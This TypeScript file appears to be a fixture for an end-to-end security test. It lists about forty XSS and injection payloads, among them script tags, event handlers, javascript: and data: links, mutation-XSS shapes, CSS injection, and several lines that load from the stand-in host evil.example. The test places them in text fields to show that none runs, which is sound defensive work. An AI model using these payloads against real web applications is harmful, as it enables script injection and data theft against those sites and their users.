/**
 * The hostile-content corpus: XSS and injection vectors that hostile-content.e2e.test.ts
 * places in every text field of a project (the field list is in hostile-site.ts). Each one
 * that runs would set `window.__xss` (or open a dialog, or load from evil.example); the
 * test proves none does. Add a vector with one line here.
 */

/** One vector: a short name for reports, and the text an editor might write. */
export interface HostileVector {
  name: string;
  payload: string;
}

const LONG_WORD = 'Unbreakable'.repeat(1_500);

export const HOSTILE_VECTORS: readonly HostileVector[] = [
  // Script tags.
  { name: 'script tag', payload: '<script>window.__xss=1</script>' },
  { name: 'script tag, mixed case', payload: '<ScRiPt>window.__xss=2</sCrIpT>' },
  { name: 'script from another site', payload: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script split by a null byte', payload: '<scr\u0000ipt>window.__xss=1</script>' },
  // Event handlers.
  { name: 'img onerror', payload: '<img src=x onerror="window.__xss=1">' },
  { name: 'svg onload', payload: '<svg onload=window.__xss=1>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=window.__xss=1>' },
  { name: 'attribute breakout, double quote', payload: '" autofocus onfocus="window.__xss=1" x="' },
  { name: "attribute breakout, single quote", payload: "' autofocus onfocus='window.__xss=1' x='" },
  { name: 'link title breakout', payload: '[x](https://example.org/ "\\" onmouseover=\\"window.__xss=1")' },
  // javascript:, vbscript: and data: addresses in links, pictures and reference definitions.
  { name: 'javascript: link', payload: '[click](javascript:window.__xss=1)' },
  { name: 'javascript: link, mixed case', payload: '[click](JaVaScRiPt:window.__xss=2)' },
  { name: 'javascript: link, scheme as entities', payload: '[click](&#106;&#97;vascript:window.__xss=1)' },
  { name: 'javascript: link, colon as an entity', payload: '[click](javascript&#x3A;window.__xss=1)' },
  { name: 'javascript: link, tab inside the scheme', payload: '[click](java&#x09;script:window.__xss=1)' },
  { name: 'javascript: link, newline inside the scheme', payload: '[click](java&#10;script:window.__xss=1)' },
  { name: 'javascript: link, control character before it', payload: '[click](\u0001javascript:window.__xss=1)' },
  { name: 'javascript: autolink', payload: '<javascript:window.__xss=1>' },
  { name: 'vbscript: link', payload: '[click](vbscript:msgbox(1))' },
  { name: 'data: link', payload: '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)' },
  { name: 'javascript: picture', payload: '![A picture](javascript:window.__xss=1)' },
  { name: 'data: picture', payload: '![A picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+)' },
  { name: 'javascript: reference definition', payload: 'See [the plan][plan].\n\n[plan]: javascript:window.__xss=1' },
  { name: 'javascript: reference definition, upper case and entity', payload: 'See [the plan][plan].\n\n[plan]: JAVASCRIPT&colon;window.__xss=1' },
  { name: 'data: reference picture', payload: '![A picture][pic]\n\n[pic]: data:image/png;base64,iVBORw0KGgo=' },
  // SVG and MathML payloads, and mutation-XSS shapes.
  { name: 'svg script', payload: '<svg><script>window.__xss=1</script></svg>' },
  { name: 'svg animate href', payload: '<svg><a><animate attributeName=href values=javascript:window.__xss=1 /><text y=20>x</text></a></svg>' },
  { name: 'mathml mglyph style mXSS', payload: '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>' },
  { name: 'noscript mXSS', payload: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">' },
  { name: 'form and math namespace confusion mXSS', payload: '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__xss=1 src=1>">' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { name: 'object data', payload: '<object data="javascript:window.__xss=1"></object>' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">' },
  { name: 'base href', payload: '<base href="https://evil.example/">' },
  // Strings that end a script or open a comment where text is written into one.
  { name: 'closing script tag in a string', payload: '</script><script>window.__xss=1</script>' },
  { name: 'comment opener in a string', payload: '<!--<script>window.__xss=1//-->' },
  { name: 'JSON-breaking line separators', payload: 'a\u2028b\u2029c"}]</script>' },
  // CSS injection.
  { name: 'style element', payload: '<style>body{background:url(https://evil.example/x)}</style>' },
  { name: 'style attribute', payload: '<p style="background:url(https://evil.example/x)">x</p>' },
  { name: 'CSS breakout text', payload: 'red;}</style><style>*{background:url(//evil.example/)}' },
  // Text that deceives rather than runs.
  { name: 'right-to-left override', payload: 'Report \u202Efdp.exe' },
  { name: 'zero-width characters', payload: 'UP\u200BP\u200CE\u200DR\uFEFF' },
  { name: 'entities only', payload: '&lt;script&gt;window.__xss=1&lt;/script&gt;' },
  // Very long lines.
  { name: 'very long line', payload: LONG_WORD },
];
